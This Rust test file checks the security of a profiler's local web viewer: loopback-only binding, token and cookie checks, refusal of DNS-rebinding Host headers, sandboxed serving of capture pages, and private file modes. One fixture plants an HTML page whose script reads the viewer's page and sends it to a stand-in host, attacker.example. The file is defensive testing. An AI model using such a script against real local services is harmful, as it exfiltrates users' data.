//! `devprof view`, the real binary. Without a browser: the URL it prints (with its token),
//! 127.0.0.1 only, other host names and requests without the token refused over the wire,
//! a capture's files served sandboxed, `--open` with and without a browser, Ctrl-C.
//! With one: real headless Chromium driven by clicks and key presses
//! (scripts/view-check.py over the DevTools protocol) on a store made by real captures of
//! the demo devnet: the list shows every capture `devprof ls` shows, a diff opened by
//! ticking two captures and pressing the button shows `devprof diff`'s totals and rows
//! (for two capture sets, its verdicts and intervals, coloured by verdict), every tab of
//! every capture loads with no console error, a session's verdict badges show whole.
//! Screenshots go to target/tmp/view-screenshots/.

mod common;

use common::*;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStderr, Command, Stdio};
use std::time::{Duration, Instant};

/// A running `devprof view`; interrupted and reaped when dropped.
struct Served {
    child: Child,
    url: String,
    stderr: BufReader<ChildStderr>,
}

impl Served {
    fn start(store: &Path, args: &[&str], env: &[(&str, &str)], unset: &[&str]) -> Served {
        let mut command = Command::new(assert_cmd::cargo::cargo_bin("devprof"));
        command
            .arg("--output-dir")
            .arg(store)
            .arg("view")
            .args(args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        for (k, v) in env {
            command.env(k, v);
        }
        for k in unset {
            command.env_remove(k);
        }
        let mut child = command.spawn().expect("devprof");
        let mut stdout = BufReader::new(child.stdout.take().unwrap());
        let mut line = String::new();
        stdout.read_line(&mut line).unwrap();
        let url = line
            .split_whitespace()
            .find(|w| w.starts_with("http://"))
            .unwrap_or_else(|| panic!("no URL in the first line: {line:?}"))
            .to_string();
        let stderr = BufReader::new(child.stderr.take().unwrap());
        Served { child, url, stderr }
    }

    fn port(&self) -> u16 {
        let authority = self.url.trim_start_matches("http://");
        let host_port = authority.split('/').next().unwrap();
        host_port.rsplit(':').next().unwrap().parse().unwrap()
    }

    /// The token the printed URL carries (`?token=HEX` or `&token=HEX`).
    fn token(&self) -> String {
        let query = self.url.split_once('?').map(|(_, q)| q).unwrap_or("");
        query
            .split('&')
            .find_map(|pair| pair.strip_prefix("token="))
            .unwrap_or_else(|| panic!("no token in {}", self.url))
            .to_string()
    }

    /// `path` (which has no query) with the token in its query, as a client without the
    /// cookie must ask for it.
    fn with_token(&self, path: &str) -> String {
        format!("{path}?token={}", self.token())
    }

    /// Ctrl-C, and the exit status.
    fn interrupt(mut self) -> std::process::ExitStatus {
        unsafe { libc::kill(self.child.id() as i32, libc::SIGINT) };
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            if let Some(status) = self.child.try_wait().unwrap() {
                return status;
            }
            assert!(
                Instant::now() < deadline,
                "the viewer did not stop on Ctrl-C"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}

impl Drop for Served {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// What came back over the wire.
struct Answer {
    status: String,
    /// Header lines, names lower-cased.
    headers: Vec<(String, String)>,
    body: String,
}

impl Answer {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, v)| v.as_str())
    }
}

/// A raw HTTP/1.1 GET with the given Host header, and a Cookie header when given.
fn http_request(port: u16, path: &str, host: &str, cookie: Option<&str>) -> Answer {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    let cookie = cookie
        .map(|c| format!("Cookie: {c}\r\n"))
        .unwrap_or_default();
    write!(
        stream,
        "GET {path} HTTP/1.1\r\nHost: {host}\r\n{cookie}Connection: close\r\n\r\n"
    )
    .unwrap();
    let mut response = String::new();
    stream.read_to_string(&mut response).unwrap();
    let (head, body) = response.split_once("\r\n\r\n").unwrap_or((&response, ""));
    let mut lines = head.lines();
    let status = lines.next().unwrap_or("").to_string();
    let headers = lines
        .filter_map(|l| l.split_once(':'))
        .map(|(n, v)| (n.trim().to_ascii_lowercase(), v.trim().to_string()))
        .collect();
    Answer {
        status,
        headers,
        body: body.to_string(),
    }
}

/// A raw HTTP/1.1 GET with the given Host header: status line and body.
fn http_get(port: u16, path: &str, host: &str) -> (String, String) {
    let answer = http_request(port, path, host, None);
    (answer.status, answer.body)
}

/// This machine's address on its default route, when it has one besides loopback.
fn outside_address() -> Option<std::net::IpAddr> {
    // No packet is sent: connecting a UDP socket only picks the route.
    let socket = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    socket.connect("192.0.2.1:9").ok()?;
    let ip = socket.local_addr().ok()?.ip();
    (!ip.is_loopback() && !ip.is_unspecified()).then_some(ip)
}

/// A "browser" for $BROWSER that writes the page it was given to `record` (whole, or
/// not at all) and exits.
fn recording_browser(dir: &Path, record: &Path) -> PathBuf {
    use std::os::unix::fs::PermissionsExt;
    let script = dir.join("browser.sh");
    std::fs::write(
        &script,
        format!(
            "#!/bin/sh\nprintf '%s' \"$1\" > {0}.tmp && mv {0}.tmp {0}\n",
            record.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    script
}

#[test]
fn view_prints_its_url_listens_on_loopback_only_and_stops_on_ctrl_c() {
    let store = tempfile::tempdir().unwrap();
    let served = Served::start(store.path(), &[], &[], &[]);
    assert!(
        served.url.starts_with("http://127.0.0.1:"),
        "{}",
        served.url
    );
    let port = served.port();
    let host = format!("127.0.0.1:{port}");
    let (status, body) = http_get(port, &served.with_token("/"), &host);
    assert!(status.contains(" 200 "), "{status}");
    assert!(body.contains("No captures in"), "{body}");
    // DNS rebinding: a page of another site whose name points here gets nothing.
    let (status, body) = http_get(
        port,
        &served.with_token("/"),
        &format!("attacker.example:{port}"),
    );
    assert!(status.contains(" 403 "), "{status}");
    assert!(!body.contains("No captures") && !body.contains(&store.path().display().to_string()));
    if let Some(ip) = outside_address() {
        assert!(
            TcpStream::connect_timeout(&(ip, port).into(), Duration::from_secs(2)).is_err(),
            "the viewer answered on {ip}"
        );
    }
    assert!(served.interrupt().success());
}

#[test]
fn view_answers_only_with_the_token_of_the_url_it_printed() {
    let store = tempfile::tempdir().unwrap();
    let served = Served::start(store.path(), &[], &[], &[]);
    let other = Served::start(store.path(), &[], &[], &[]);
    let token = served.token();
    assert!(
        token.len() >= 32 && token.bytes().all(|c| c.is_ascii_hexdigit()),
        "{token}"
    );
    // Each run draws its own.
    assert_ne!(token, other.token());
    let port = served.port();
    let host = format!("127.0.0.1:{port}");
    // Another user of the machine reaches 127.0.0.1 too, but has no token.
    for path in [
        "/".to_string(),
        "/sessions".to_string(),
        "/static/app.js".to_string(),
        format!("/?token={}", other.token()),
        format!("/?token={}", &token[..token.len() - 1]),
    ] {
        let refused = http_request(port, &path, &host, None);
        assert!(
            refused.status.contains(" 403 "),
            "{path}: {}",
            refused.status
        );
        assert!(
            refused.body.contains("open the URL `devprof view` printed"),
            "{}",
            refused.body
        );
        assert!(!refused.body.contains(&store.path().display().to_string()));
        assert_eq!(refused.header("set-cookie"), None);
    }
    // The URL it printed: 200, and a cookie for the pages it leads to.
    let path = served.url.trim_start_matches(&format!("http://{host}"));
    let first = http_request(port, path, &host, None);
    assert!(first.status.contains(" 200 "), "{}", first.status);
    let set = first.header("set-cookie").expect("a cookie").to_string();
    assert!(
        set.contains("HttpOnly") && set.contains("SameSite=Strict") && set.contains("Path=/"),
        "{set}"
    );
    let cookie = set.split(';').next().unwrap();
    assert!(cookie.ends_with(&format!("={token}")), "{cookie}");
    let next = http_request(port, "/sessions", &host, Some(cookie));
    assert!(next.status.contains(" 200 "), "{}", next.status);
    // The other viewer's cookie opens nothing here.
    let theirs = http_request(
        port,
        "/sessions",
        &host,
        Some(&cookie.replace(&token, &other.token())),
    );
    assert!(theirs.status.contains(" 403 "), "{}", theirs.status);
}

/// A store with one capture whose manifest lists an HTML page (as `--asprof-html` has the
/// target's JVM write one): its script reaches for the viewer's other files.
fn store_with_a_planted_page(root: &Path) -> (PathBuf, String, String) {
    use devprof::store::{FileRecord, Manifest, Stem};
    let store = root.join("profiling");
    let stem = Stem::reserve(&store.join(DEMO_SEQ), "perf", chrono::Local::now()).unwrap();
    let page = stem.file_name("asprof.html");
    let folded = stem.file_name("folded");
    std::fs::write(
        stem.path("asprof.html"),
        "<!DOCTYPE html><script>fetch('/').then(r => r.text())\
         .then(t => top.location = 'http://attacker.example/?' + t)</script>",
    )
    .unwrap();
    std::fs::write(stem.path("folded"), "main;hash_chain 10\n").unwrap();
    let mut manifest = Manifest {
        devprof_version: "0.1.0".into(),
        kind: "cpu".into(),
        created: chrono::Local::now().to_rfc3339(),
        target: DEMO_SEQ.into(),
        sample_count: 10,
        files: [&page, &folded]
            .iter()
            .map(|name| FileRecord {
                name: name.to_string(),
                bytes: 0,
            })
            .collect(),
        ..Default::default()
    };
    manifest.container.name = DEMO_SEQ.into();
    manifest.write(&stem).unwrap();
    let href = |name: &str| format!("/file/{DEMO_SEQ}/{}/{name}", stem.name());
    (store, href(&page), href(&folded))
}

#[test]
fn view_serves_a_captures_html_page_sandboxed() {
    let root = tempfile::tempdir().unwrap();
    let (store, page, folded) = store_with_a_planted_page(root.path());
    let served = Served::start(&store, &[], &[], &[]);
    let port = served.port();
    let host = format!("127.0.0.1:{port}");
    for path in [&page, &folded] {
        let answer = http_request(port, &served.with_token(path), &host, None);
        assert!(answer.status.contains(" 200 "), "{path}: {}", answer.status);
        let policy = answer.header("content-security-policy").unwrap_or("");
        // An origin of its own: its script runs, but reads and sends nothing of the viewer's.
        assert!(policy.starts_with("sandbox allow-scripts;"), "{policy}");
        assert!(!policy.contains("allow-same-origin"), "{policy}");
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
    }
    let page_answer = http_request(port, &served.with_token(&page), &host, None);
    assert_eq!(
        page_answer.header("content-type"),
        Some("text/html; charset=utf-8")
    );
    assert!(page_answer.body.contains("attacker.example"));
    // The viewer's own pages are not sandboxed: their script is the viewer's.
    let list = http_request(port, &served.with_token("/"), &host, None);
    let policy = list.header("content-security-policy").unwrap_or("");
    assert!(
        list.status.contains(" 200 ") && !policy.contains("sandbox"),
        "{policy}"
    );
}

#[test]
fn view_open_hands_the_url_to_the_browser_named_by_browser_variable() {
    let dir = tempfile::tempdir().unwrap();
    let got = dir.path().join("opened.txt");
    let browser = recording_browser(dir.path(), &got);
    let served = Served::start(
        dir.path(),
        &["--open"],
        &[("BROWSER", &browser.display().to_string())],
        &[],
    );
    let deadline = Instant::now() + Duration::from_secs(20);
    while !got.exists() {
        assert!(Instant::now() < deadline, "the browser was never started");
        std::thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(std::fs::read_to_string(&got).unwrap(), served.url);
}

#[test]
#[ignore = "needs the demo devnet"]
fn view_open_without_a_browser_says_so_and_keeps_serving() {
    let store = tempfile::tempdir().unwrap();
    let mut served = Served::start(
        store.path(),
        &["--open", "--port", "0"],
        &[],
        &["BROWSER", "DISPLAY", "WAYLAND_DISPLAY"],
    );
    let mut line = String::new();
    served.stderr.read_line(&mut line).unwrap();
    assert!(line.starts_with("--open: no browser found"), "{line}");
    assert!(line.contains(&served.url), "{line}");
    let port = served.port();
    let (status, _) = http_get(
        port,
        &served.with_token("/sessions"),
        &format!("localhost:{port}"),
    );
    assert!(status.contains(" 200 "), "{status}");
}

/// `devprof ARGS` with the store, which must succeed: its stdout.
fn run_ok(store: &Path, args: &[&str], env: &[(&str, &str)]) -> String {
    let mut command = devprof(store);
    command.arg("--output-dir").arg(store).args(args);
    for (k, v) in env {
        command.env(k, v);
    }
    let out = command.output().unwrap();
    assert!(
        out.status.success(),
        "devprof {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn chromium_ready(test: &str) -> bool {
    let ok = Command::new("chromium")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !ok {
        not_run(
            test,
            "chromium is not installed (scripts/setup.sh installs Debian's package)",
        );
    }
    ok
}

#[test]
#[ignore = "needs the demo devnet"]
fn view_in_chromium_lists_every_capture_and_diffs_like_the_cli() {
    let test = "view_in_chromium_lists_every_capture_and_diffs_like_the_cli";
    if !devnet_ready(test) || !chromium_ready(test) {
        return;
    }
    let work = tempfile::tempdir().unwrap();
    let store = work.path().join("profiling");
    std::fs::create_dir_all(&store).unwrap();

    // A capture command's --open: the browser gets the flamegraph it wrote.
    let opened = work.path().join("opened.txt");
    let browser = recording_browser(work.path(), &opened);
    run_ok(&store, &["cpu", DEMO_SEQ, "3"], &[]);
    run_ok(
        &store,
        &["cpu", DEMO_SEQ, "3", "--open"],
        &[("BROWSER", &browser.display().to_string())],
    );
    run_ok(
        &store,
        &["offcpu", DEMO_SEQ, "3", "--config", "iobandwidth"],
        &[],
    );
    run_ok(
        &store,
        &[
            "offcpu",
            DEMO_SEQ,
            "3",
            "--config",
            "contextswitches",
            "--fast",
        ],
        &[],
    );
    run_ok(&store, &["heap", DEMO_SEQ, "3"], &[]);
    run_ok(&store, &["profile", DEMO_SEQ, "3", "--kinds", "cpu"], &[]);

    let listed: Vec<serde_json::Value> =
        serde_json::from_str(&run_ok(&store, &["ls", "--json"], &[])).unwrap();
    let id = |row: &serde_json::Value| {
        format!(
            "{}/{}",
            row["container"].as_str().unwrap(),
            row["capture"].as_str().unwrap()
        )
    };
    let cpu: Vec<&serde_json::Value> = listed
        .iter()
        .filter(|r| r["kind"] == "cpu" && r["manifest"].as_str().is_some())
        .collect();
    let opened_svg = std::fs::read_to_string(&opened).expect("--open started the browser");
    assert!(
        opened_svg.ends_with(".svg") && Path::new(&opened_svg).is_file(),
        "{opened_svg}"
    );
    // ls lists oldest first: the first two cpu captures, in order.
    let (before, after) = (cpu[0], cpu[1]);
    let folded = |row: &serde_json::Value| {
        let manifest = PathBuf::from(row["manifest"].as_str().unwrap());
        manifest.with_extension("folded")
    };

    let served = Served::start(&store, &[], &[], &[]);
    let shots = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("view-screenshots");
    // This run's screenshots only.
    let _ = std::fs::remove_dir_all(&shots);
    let mut driver = Command::new("python3");
    driver
        .arg(repo_root().join("scripts/view-check.py"))
        .arg(&served.url)
        .arg(&shots)
        .arg(id(before))
        .arg(id(after))
        .args(listed.iter().map(id));
    let out = driver.output().unwrap();
    assert!(
        out.status.success(),
        "view-check.py: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let seen: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();

    // The list: every capture ls lists, none else.
    let mut rows: Vec<String> = seen["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["id"].as_str().unwrap().to_string())
        .collect();
    let mut expected: Vec<String> = listed.iter().map(id).collect();
    rows.sort();
    expected.sort();
    assert_eq!(rows, expected);
    // The kind filter, chosen with the keyboard, leaves that kind's captures.
    let kind = seen["filter_kind"].as_str().unwrap();
    let filtered = seen["filtered"].as_array().unwrap();
    assert_eq!(
        filtered.len(),
        listed.iter().filter(|r| r["kind"] == kind).count()
    );
    assert!(filtered.iter().all(|r| r["kind"] == kind));
    assert_eq!(seen["shown_count"], filtered.len().to_string());

    // The diff: the button waits for two ticks, then shows what `devprof diff` computes.
    assert_eq!(seen["diff_button_before"], true);
    assert_eq!(seen["diff_button_ticked"], false);
    let svg_out = work.path().join("diff.svg");
    let cli: serde_json::Value = serde_json::from_str(&run_ok(
        &store,
        &[
            "diff",
            &folded(before).display().to_string(),
            &folded(after).display().to_string(),
            "--json",
            "-o",
            &svg_out.display().to_string(),
        ],
        &[],
    ))
    .unwrap();
    let page = &seen["diff"];
    assert_eq!(page["before_total"], cli["before"]["total"]);
    assert_eq!(page["after_total"], cli["after"]["total"]);
    assert_eq!(page["measure"], "self");
    assert_eq!(page["graph_loaded"], true);
    for side in ["gains", "losses"] {
        let shown = page[side].as_array().unwrap();
        let computed = cli[side].as_array().unwrap();
        assert_eq!(shown.len(), computed.len(), "{side}");
        for (s, c) in shown.iter().zip(computed) {
            assert_eq!(s["name"], c["name"], "{side}");
            let delta = c["delta_points"].as_f64().unwrap();
            assert!(
                (s["delta"].as_f64().unwrap() - delta).abs() < 0.006,
                "{side}: {s} vs {c}"
            );
        }
    }

    // Every tab of every capture loaded its frames and plots; heap and off-CPU have plots.
    let visited = seen["visited"].as_array().unwrap();
    for v in visited {
        assert!(
            v["frames"].as_array().unwrap().iter().all(|f| f == true),
            "{v}"
        );
        assert!(
            v["images"]
                .as_array()
                .unwrap()
                .iter()
                .all(|w| w.as_u64() > Some(0)),
            "{v}"
        );
    }
    // A capture whose manifest lists a plot has a plots tab (a 3 s context-switch capture
    // of a busy node may hold no off-CPU interval, hence no plot); each kind has one.
    let lists_a_plot = |row: &serde_json::Value| {
        let manifest = std::fs::read_to_string(row["manifest"].as_str().unwrap()).unwrap();
        ["dumps.svg", "threads.svg", "bandwidth.svg"]
            .iter()
            .any(|plot| manifest.contains(&format!(".{plot}\"")))
    };
    for kind in ["heap", "offcpu"] {
        let rows: Vec<_> = listed.iter().filter(|r| r["kind"] == kind).collect();
        assert!(
            rows.iter().any(|r| lists_a_plot(r)),
            "no {kind} capture has a plot"
        );
        for row in rows.into_iter().filter(|r| lists_a_plot(r)) {
            assert!(
                visited
                    .iter()
                    .any(|v| v["capture"] == id(row).as_str() && v["tab"] == "tab-plots"),
                "no plots tab for {}",
                id(row)
            );
        }
    }
    assert_eq!(seen["sessions"], 1);
    assert_eq!(seen["session_rows"], 1);
    // Each verdict shows whole, in a wide window and a narrow one.
    for width in ["badges", "badges_narrow"] {
        let badges = seen[width].as_array().unwrap();
        assert!(!badges.is_empty(), "{width}");
        for badge in badges {
            assert_eq!(badge["fits"], true, "{width}: {badge}");
        }
    }
    assert_eq!(seen["errors"], serde_json::json!([]), "console errors");
    let screenshots = seen["screenshots"].as_array().unwrap();
    assert!(screenshots.len() > 10);
    for s in screenshots {
        assert!(Path::new(s.as_str().unwrap()).is_file(), "{s}");
    }
    eprintln!("screenshots: {}", shots.display());
    assert!(served.interrupt().success());
}

/// A capture set of demo-seq (`cpu demo-seq 2 --repeat 3`): its manifest.
fn capture_set(store: &Path) -> String {
    let printed: serde_json::Value = serde_json::from_str(&run_ok(
        store,
        &["cpu", DEMO_SEQ, "2", "--repeat", "3", "--json"],
        &[],
    ))
    .unwrap();
    printed["manifest"]
        .as_str()
        .unwrap_or_else(|| panic!("no manifest in {printed}"))
        .to_string()
}

/// The line of `devprof diff`'s table that ends with `name`.
fn cli_line<'a>(table: &'a str, name: &str) -> &'a str {
    table
        .lines()
        .find(|l| l.trim_end().ends_with(&format!("  {name}")))
        .unwrap_or_else(|| panic!("no row for {name} in\n{table}"))
}

/// The viewer's diff of two capture sets once showed plain share deltas coloured by their
/// sign (`24.56 -> 18.62 -5.93 state_lookup`, in blue) where `devprof diff` of the same
/// sets said every function was within noise. In Chromium, ticked and diffed as a person
/// would: the page shows the CLI's rows, verdicts and intervals (Holm-corrected), colours
/// only regressed and improved functions, and serves the CLI's differential flamegraph
/// byte for byte.
#[test]
#[ignore = "needs the demo devnet"]
fn view_diff_of_two_capture_sets_gives_the_clis_verdicts_in_chromium() {
    let test = "view_diff_of_two_capture_sets_gives_the_clis_verdicts_in_chromium";
    if !devnet_ready(test) || !chromium_ready(test) {
        return;
    }
    let work = tempfile::tempdir().unwrap();
    let store = work.path().join("profiling");
    std::fs::create_dir_all(&store).unwrap();
    let before = capture_set(&store);
    let after = capture_set(&store);
    let listed: Vec<serde_json::Value> =
        serde_json::from_str(&run_ok(&store, &["ls", "--json"], &[])).unwrap();
    assert_eq!(listed.len(), 2, "{listed:?}");
    let id = |row: &serde_json::Value| {
        format!(
            "{}/{}",
            row["container"].as_str().unwrap(),
            row["capture"].as_str().unwrap()
        )
    };
    let cli_svg = work.path().join("cli-diff.svg");
    let cli: serde_json::Value = serde_json::from_str(&run_ok(
        &store,
        &[
            "diff",
            &before,
            &after,
            "--json",
            "-o",
            &cli_svg.display().to_string(),
        ],
        &[],
    ))
    .unwrap();
    let table = run_ok(
        &store,
        &[
            "diff",
            &before,
            &after,
            "-o",
            &cli_svg.display().to_string(),
        ],
        &[],
    );
    let comparison = &cli["comparison"];
    let functions = comparison["functions"].as_array().unwrap();

    let served = Served::start(&store, &[], &[], &[]);
    // The drawing: the CLI's own, byte for byte.
    let port = served.port();
    let query = format!(
        "before={}&after={}",
        id(&listed[0]).replace('/', "%2F"),
        id(&listed[1]).replace('/', "%2F")
    );
    let answer = http_request(
        port,
        &format!("/diff.svg?{query}&token={}", served.token()),
        &format!("127.0.0.1:{port}"),
        None,
    );
    assert!(answer.status.contains(" 200 "), "{}", answer.status);
    assert!(
        answer.body == std::fs::read_to_string(&cli_svg).unwrap(),
        "the viewer's differential flamegraph differs from `devprof diff`'s"
    );

    let shots = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("view-set-diff-screenshots");
    let _ = std::fs::remove_dir_all(&shots);
    let out = Command::new("python3")
        .arg(repo_root().join("scripts/view-check.py"))
        .arg(&served.url)
        .arg(&shots)
        .arg(id(&listed[0]))
        .arg(id(&listed[1]))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "view-check.py: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let seen: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let page = &seen["diff"];
    assert_eq!(page["before_windows"], 3);
    assert_eq!(page["after_windows"], 3);
    assert_eq!(page["before_windows"], cli["before"]["windows"]);
    assert_eq!(
        page["gains"],
        serde_json::json!([]),
        "no plain share deltas"
    );
    assert_eq!(page["total_rate"], comparison["total_rate"]["verdict"]);
    let shown = page["functions"].as_array().expect("a table of verdicts");
    // The rows `devprof diff` prints, in its order, with its verdicts and intervals.
    let cli_rows: Vec<&str> = table
        .lines()
        .skip_while(|l| !l.contains("VERDICT"))
        .skip(1)
        .take_while(|l| !l.trim().is_empty() && !l.starts_with("note:"))
        .collect();
    assert_eq!(shown.len(), cli_rows.len(), "{table}");
    let delta = |d: &serde_json::Value, digits: usize| {
        let change = d["change"].as_f64().unwrap();
        match d["ci"].as_f64() {
            Some(ci) => format!("{change:+.digits$} ±{ci:.digits$}"),
            None => format!("{change:+.digits$}"),
        }
    };
    let mut significant = 0;
    for row in shown {
        let name = row["name"].as_str().unwrap();
        let f = functions
            .iter()
            .find(|f| f["name"] == name)
            .unwrap_or_else(|| panic!("{name} is not in the CLI's comparison"));
        assert_eq!(row["verdict"], f["verdict"], "{name}");
        let words = row["words"].as_str().unwrap();
        let line = cli_line(&table, name);
        assert!(line.contains(words), "{name}: {words} vs {line}");
        let change = delta(&f["self_share"], 2);
        assert_eq!(row["change"], change.as_str(), "{name}");
        assert_eq!(row["incl_change"], delta(&f["incl_share"], 2).as_str());
        assert!(line.contains(&change), "{name}: {change} vs {line}");
        let share = |side: &str| format!("{:.2}", f["self_share"][side].as_f64().unwrap());
        assert_eq!(row["before"], share("before").as_str(), "{name}");
        assert_eq!(row["after"], share("after").as_str(), "{name}");
        let stands_out = matches!(words, "regressed" | "improved");
        significant += usize::from(stands_out);
        assert_eq!(row["coloured"], stands_out, "{name}: coloured as {words}");
    }
    assert!(page["graph_subtitle"]
        .as_str()
        .is_some_and(|s| s.starts_with("coloured only where the change is significant")));
    if significant == 0 {
        assert_eq!(page["graph_coloured"], 0, "within noise is drawn neutral");
    }
    assert_eq!(seen["errors"], serde_json::json!([]), "console errors");
    eprintln!("screenshots: {}", shots.display());
    assert!(served.interrupt().success());
}

/// Paths with their permission bits.
type Modes = Vec<(PathBuf, u32)>;

/// Every file under `dir` with its mode, and every directory (`dir` included).
fn modes_under(dir: &Path) -> (Modes, Modes) {
    use std::os::unix::fs::PermissionsExt;
    let mode = |p: &Path| std::fs::symlink_metadata(p).unwrap().permissions().mode() & 0o777;
    let (mut files, mut dirs) = (Vec::new(), vec![(dir.to_path_buf(), mode(dir))]);
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).unwrap().flatten() {
            let path = entry.path();
            if entry.file_type().unwrap().is_dir() {
                dirs.push((path.clone(), mode(&path)));
                stack.push(path);
            } else {
                files.push((path.clone(), mode(&path)));
            }
        }
    }
    (files, dirs)
}

#[test]
#[ignore = "needs the demo devnet"]
fn a_real_captures_recording_heap_dumps_and_binary_copies_are_private() {
    let test = "a_real_captures_recording_heap_dumps_and_binary_copies_are_private";
    if !devnet_ready(test) {
        return;
    }
    let cwd = workdir();
    let stem = cpu_capture(cwd.path(), DEMO_SEQ, "2");
    devprof(cwd.path())
        .args(["heap", DEMO_SEQ, "2"])
        .assert()
        .success();
    let store = cwd.path().join("profiling");
    let (files, dirs) = modes_under(&store);
    // The store and the container's directory devprof made, and the symbol cache's.
    for (dir, mode) in &dirs {
        assert_eq!(*mode, 0o700, "{}", dir.display());
    }
    let raw = |path: &Path| {
        let name = path.file_name().unwrap().to_string_lossy();
        name.ends_with(".data")
            || name.ends_with(".heap")
            || path.components().any(|c| c.as_os_str() == ".symbols")
    };
    let raw_files: Vec<&(PathBuf, u32)> = files.iter().filter(|(p, _)| raw(p)).collect();
    for (file, mode) in &raw_files {
        assert_eq!(*mode, 0o600, "{}", file.display());
    }
    // The recording, heap dumps and copies of the node's binary were among them.
    assert!(raw_files.iter().any(|(p, _)| *p == with_ext(&stem, "data")));
    assert!(raw_files
        .iter()
        .any(|(p, _)| p.to_string_lossy().ends_with(".heap")));
    assert!(raw_files
        .iter()
        .any(|(p, _)| p.components().any(|c| c.as_os_str() == ".symbols")));
}
